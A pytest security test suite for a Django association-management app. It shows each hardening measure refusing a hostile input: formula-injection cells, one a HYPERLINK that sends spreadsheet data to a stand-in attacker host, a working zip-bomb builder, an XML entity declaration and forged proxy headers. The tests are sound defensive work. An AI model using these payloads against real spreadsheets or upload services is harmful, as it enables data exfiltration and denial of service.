"""Hardening of issue 10, part 4: each protection with a request that proves it (docs/security.md lists them).

Every refusal is shown beside a VALID request that is accepted, and the database is checked unchanged."""

from __future__ import annotations

import io
import json
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.db import IntegrityError, transaction
from django.db.models import QuerySet
from django.test import override_settings
from openpyxl import Workbook, load_workbook

from sohoi.core.models import AuditEntry

pytestmark = pytest.mark.django_db


# 1. Formula injection in exports ------------------------------------------------------------------------

def test_safe_cell_turns_formula_text_into_text_and_leaves_data_alone():
    from sohoi.core.spreadsheet import safe_cell

    for bad in ("=HYPERLINK(\"http://x\",\"y\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(bad) == "'" + bad
    assert safe_cell("Hội Khuyến học") == "Hội Khuyến học"
    assert safe_cell(-5) == -5 and safe_cell(None) is None


def test_register_export_writes_a_formula_name_as_text(login):
    from sohoi.associations.models import Association

    hostile = '=HYPERLINK("http://ke-gian.example/?"&A2,"Bấm vào")'
    association = Association.objects.get(name="Hội Khuyến học thành phố Cần Thơ")
    Association.objects.filter(pk=association.pk).update(head_office=hostile, short_name="@SUM(1+1)")
    response = login("noivu").get("/hoi/", {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert "'" + hostile in values and "'@SUM(1+1)" in values
    assert hostile not in values
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert not formulas
    assert "Hội Khuyến học thành phố Cần Thơ" in values  # ordinary names are written as they are


# 2. Decompression limits -----------------------------------------------------------------------------------

def _zip_bomb(inner: str, size: int = 200 * 1024 * 1024) -> bytes:
    """A real zip bomb: `size` bytes of zeros deflated to a few hundred KB, beside a plausible Office layout."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open(inner, "w") as part:
            block = b"\0" * (1024 * 1024)
            for _ in range(size // len(block)):
                part.write(block)
    return out.getvalue()


def _roster_xlsx(name: str = "Lê Văn Bom") -> bytes:
    from sohoi.associations.services.roster import COLUMNS

    book = Workbook()
    book.active.append(list(COLUMNS.values()))
    book.active.append([name, "Nam", 1980, "", "", "Cá nhân", "05/09/2023", "", "Không"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_roster_import_refuses_a_zip_bomb_before_parsing(users, monkeypatch):
    from sohoi.associations import services
    from sohoi.associations.models import Association, Member

    hkh = Association.objects.get(name="Hội Khuyến học thành phố Cần Thơ")
    members = Member.objects.count()
    # The parser must never be reached: if it were, this test fails instead of inflating 200 MB.
    import openpyxl

    def never(*args, **kwargs):
        raise AssertionError("openpyxl was asked to parse a zip bomb")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    bomb = _zip_bomb("xl/worksheets/sheet1.xml")
    result = services.roster_import(actor=users["hoi.khuyenhoc"], association=hkh, upload=io.BytesIO(bomb),
                                    filename="hoi-vien.xlsx", dry_run=False)
    message = str(result.errors[0])
    assert "hoi-vien.xlsx" in message and "giải nén" in message and "lưu lại" in message
    assert Member.objects.count() == members
    monkeypatch.undo()
    # The same import with a real file is accepted.
    result = services.roster_import(actor=users["hoi.khuyenhoc"], association=hkh, upload=io.BytesIO(_roster_xlsx()),
                                    filename="hoi-vien.xlsx", dry_run=False)
    assert result.ok and Member.objects.count() == members + 1


def test_register_import_refuses_a_zip_bomb_before_parsing(users):
    from sohoi.associations.models import Association
    from sohoi.associations.services.register_import import register_import

    before = Association.objects.count()
    result = register_import(actor=users["noivu"], upload=io.BytesIO(_zip_bomb("xl/worksheets/sheet1.xml",
                                                                               700 * 1024 * 1024 // 4)),
                             filename="danh-ba.xlsx", dry_run=False)
    assert any("danh-ba.xlsx" in str(e) for e in result.errors)
    assert Association.objects.count() == before


def test_document_upload_refuses_a_docx_bomb_before_parsing(users, monkeypatch):
    import docx

    from sohoi.directives.intake import read_file
    from sohoi.directives.models import Document

    monkeypatch.setattr(docx, "Document", lambda *a, **k: (_ for _ in ()).throw(AssertionError("parsed a bomb")))
    before = Document.objects.count()
    with pytest.raises(ValidationError) as caught:
        read_file(_zip_bomb("word/document.xml"), "cong-van.docx")
    message = " ".join(caught.value.message_dict["file"])
    assert "cong-van.docx" in message and "Không có gì được lưu" in message
    assert Document.objects.count() == before


def test_xml_entity_declarations_and_too_many_entries_are_refused():
    from sohoi.core.spreadsheet import UnsafeArchive, ZipLimits, check_zip

    limits = ZipLimits(max_bytes=50 * 1024 * 1024, max_entries=10, max_elements=1000, max_ratio=500)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')
    with pytest.raises(UnsafeArchive, match="DOCTYPE"):
        check_zip(io.BytesIO(out.getvalue()), "a.docx", limits)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for i in range(11):
            archive.writestr(f"part{i}.xml", "<a/>")
    with pytest.raises(UnsafeArchive, match="11 thành phần"):
        check_zip(io.BytesIO(out.getvalue()), "b.xlsx", limits)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("sheet.xml", "<r>" + "<c/>" * 2000 + "</r>")
    with pytest.raises(UnsafeArchive, match="phần tử XML"):
        check_zip(io.BytesIO(out.getvalue()), "c.xlsx", limits)
    check_zip(io.BytesIO(_roster_xlsx()), "ok.xlsx")  # a real workbook passes the default limits


# 3. Check-then-insert rules enforced by the database -----------------------------------------------------

def _pending_assignment(users):
    from sohoi.directives.choices import ReportStatus
    from sohoi.directives.models import Assignment

    a = Assignment.objects.select_related("task__document", "unit").get(
        task__document__code="752-CV/TU", task__no="1", unit__name="Quận ủy Ninh Kiều")
    a.done_on = None
    a.save(update_fields=["done_on"])
    a.reports.filter(status=ReportStatus.SUBMITTED).update(status=ReportStatus.RETURNED)
    return a


def test_one_pending_report_is_enforced_by_the_database(users):
    from sohoi.directives.models import ProgressReport

    a = _pending_assignment(users)
    ProgressReport.objects.create(assignment=a, submitted_on="2013-02-01", text="Một")
    with pytest.raises(IntegrityError), transaction.atomic():
        ProgressReport.objects.create(assignment=a, submitted_on="2013-02-02", text="Hai")


def test_a_racing_second_report_gets_the_clear_message_not_a_500_or_a_duplicate(users, monkeypatch):
    import datetime

    from sohoi.directives.models import ProgressReport
    from sohoi.directives.services import progress_report_submit

    a = _pending_assignment(users)
    first = progress_report_submit(actor=users["quanuy.ninhkieu"], assignment=a, text="Đã quán triệt",
                                   on=datetime.date(2013, 2, 1))
    assert first.pk  # the valid request is accepted
    count, audits = ProgressReport.objects.count(), AuditEntry.objects.count()
    real = QuerySet.exists
    # The race: the second request checked before the first one's row was visible.
    monkeypatch.setattr(QuerySet, "exists",
                        lambda qs: False if qs.model is ProgressReport else real(qs))
    with pytest.raises(ValidationError) as caught:
        progress_report_submit(actor=users["quanuy.ninhkieu"], assignment=a, text="Gửi lần hai",
                               on=datetime.date(2013, 2, 1))
    assert "đang chờ xem xét" in str(caught.value)
    assert ProgressReport.objects.count() == count and AuditEntry.objects.count() == audits


def test_a_racing_second_congress_with_the_same_number_gets_the_clear_message(users, monkeypatch):
    import datetime

    from sohoi.associations import services
    from sohoi.associations.models import Association, Congress

    hkh = Association.objects.get(name="Hội Khuyến học thành phố Cần Thơ")
    first = services.congress_record(actor=users["noivu"], association=hkh, number=41, expected=100, attended=80,
                                     held_on=datetime.date(2025, 3, 1))
    assert first.pk  # the valid request is accepted
    count, audits = Congress.objects.count(), AuditEntry.objects.count()
    real = QuerySet.exists
    monkeypatch.setattr(QuerySet, "exists", lambda qs: False if qs.model is Congress else real(qs))  # the race
    with pytest.raises(ValidationError) as caught:
        services.congress_record(actor=users["noivu"], association=hkh, number=41, expected=100, attended=80,
                                 held_on=datetime.date(2025, 3, 1))
    assert "Đã có đại hội lần thứ 41" in str(caught.value)
    assert Congress.objects.count() == count and AuditEntry.objects.count() == audits


def test_a_racing_second_rating_of_the_same_year_is_refused_not_duplicated(users, monkeypatch):
    from sohoi.party import services
    from sohoi.party.models import PartyOrganisation, QualityRating

    org = PartyOrganisation.objects.filter(ended_on__isnull=True).order_by("pk").first()
    year = org.decision_date.year + 1
    services.rating_record(actor=users["quantri"], organisation=org, year=year, score=90)
    count = QualityRating.objects.count()
    real = QuerySet.first
    # The race: the second call looked for the year's rating before the first one's row was visible.
    monkeypatch.setattr(QuerySet, "first", lambda qs: None if qs.model is QualityRating else real(qs))
    with pytest.raises(ValidationError):
        services.rating_record(actor=users["quantri"], organisation=org, year=year, score=70)
    assert QualityRating.objects.count() == count


# 5. NUL characters in JSON bodies --------------------------------------------------------------------------

def test_nul_in_a_json_body_is_refused_with_400_in_the_api_error_shape(login):
    client = login("noivu")
    body = json.dumps({"name": "Hội\u0000 Bóng", "note": "x"})
    response = client.post("/api/v1/associations/", body, content_type="application/json")
    assert response.status_code == 400
    data = response.json()
    assert set(data) == {"code", "message", "fields"} and data["code"] == "invalid"
    assert "NUL" in data["message"] and "name" in data["fields"] and "xóa" in data["message"]
    # The same request without the NUL reaches the API (validation answers, not the NUL guard).
    response = client.post("/api/v1/associations/", json.dumps({"name": "Hội Bóng"}),
                           content_type="application/json")
    assert response.status_code != 400 or "NUL" not in response.json()["message"]


# 7. Login lockout behind the reverse proxy ---------------------------------------------------------------

def _fail(client, forwarded: str | None, username: str = "dandan"):
    extra = {"HTTP_X_FORWARDED_FOR": forwarded} if forwarded else {}
    return client.post("/tai-khoan/dang-nhap/", {"username": username, "password": "sai-mat-khau"},
                       REMOTE_ADDR="127.0.0.1", **extra)


@override_settings(TRUSTED_PROXY_COUNT=1)
def test_behind_the_proxy_two_forwarded_clients_are_locked_independently(client):
    from sohoi.accounts.demo import DEMO_PASSWORD

    for _ in range(5):
        _fail(client, "203.0.113.7")
    locked = client.post("/tai-khoan/dang-nhap/", {"username": "dandan", "password": DEMO_PASSWORD},
                         REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="203.0.113.7")
    assert locked.status_code == 429
    other = client.post("/tai-khoan/dang-nhap/", {"username": "dandan", "password": DEMO_PASSWORD},
                        REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.9")
    assert other.status_code == 302  # the other client behind the same proxy signs in


def test_without_a_trusted_proxy_a_forged_forwarded_header_is_ignored(client):
    from sohoi.accounts.demo import DEMO_PASSWORD

    for i in range(5):  # a fresh forged address on every try must not escape the lockout
        _fail(client, f"203.0.113.{i + 1}")
    response = client.post("/tai-khoan/dang-nhap/", {"username": "dandan", "password": DEMO_PASSWORD},
                           REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.200")
    assert response.status_code == 429


def test_client_ip_takes_the_entry_our_proxy_appended():
    from django.test import RequestFactory

    from sohoi.core.proxy import client_ip

    request = RequestFactory().get("/", REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="1.2.3.4, 203.0.113.7")
    assert client_ip(request) == "127.0.0.1"
    with override_settings(TRUSTED_PROXY_COUNT=1):
        assert client_ip(request) == "203.0.113.7"  # "1.2.3.4" was written by the client: ignored
    with override_settings(TRUSTED_PROXY_COUNT=1):
        request = RequestFactory().get("/", REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="not-an-ip")
        assert client_ip(request) == "127.0.0.1"


# 8. OpenAPI schema and docs behind login in production ---------------------------------------------------

@override_settings(API_DOCS_PUBLIC=False)  # what DEBUG=0 gives (settings)
def test_openapi_schema_and_docs_need_a_login_in_production(client, users):
    response = client.get("/api/v1/openapi.json")
    assert response.status_code == 401 and response.json()["code"] == "unauthenticated"
    response = client.get("/api/v1/docs")
    assert response.status_code == 302 and "/dang-nhap/" in response["Location"]
    client.force_login(users["dandan"])
    assert client.get("/api/v1/openapi.json").status_code == 200
    assert client.get("/api/v1/docs").status_code == 200


def test_openapi_schema_with_a_bearer_token_in_production(users):
    from django.test import Client

    from sohoi.accounts.services import api_token_create

    _row, token = api_token_create(actor=users["quantri"], user=users["quantri"], name="Tích hợp")
    with override_settings(API_DOCS_PUBLIC=False):
        assert Client().get("/api/v1/openapi.json", HTTP_AUTHORIZATION=f"Bearer {token}").status_code == 200
        assert Client().get("/api/v1/openapi.json", HTTP_AUTHORIZATION="Bearer sai").status_code == 401


# 9. Cache-Control and Vary -----------------------------------------------------------------------------------

def test_signed_in_pages_and_api_answers_are_not_stored(login, client):
    from sohoi.associations.models import Association

    hkh = Association.objects.get(name="Hội Khuyến học thành phố Cần Thơ")
    c = login("noivu")
    for path in ("/", f"/hoi/{hkh.pk}/", "/hoi/", "/api/v1/associations/"):
        response = c.get(path)
        assert response.status_code == 200, path
        assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"], path
    page = c.get("/hoi/")
    assert "HX-Request" in page["Vary"]
    partial = c.get("/hoi/", HTTP_HX_REQUEST="true")
    assert "HX-Request" in partial["Vary"] and len(partial.content) < len(page.content)
    c.logout()
    public = client.get("/hoi/danh-ba/")  # the public register: no personal data, may be cached
    assert public.status_code == 200 and "no-store" not in public.get("Cache-Control", "")


def test_production_settings_close_the_api_docs_and_trust_no_proxy_by_default():
    import os
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if k not in ("API_DOCS_PUBLIC", "TRUSTED_PROXY_COUNT")}
    code = "import sohoi.config.settings as s; print(s.API_DOCS_PUBLIC, s.TRUSTED_PROXY_COUNT)"
    production = subprocess.run([sys.executable, "-c", code], env={**env, "DEBUG": "0", "SECRET_KEY": "k" * 50},
                                capture_output=True, text=True, check=True)
    assert production.stdout.split() == ["False", "0"]
    development = subprocess.run([sys.executable, "-c", code], env={**env, "DEBUG": "1"},
                                 capture_output=True, text=True, check=True)
    assert development.stdout.split() == ["True", "0"]
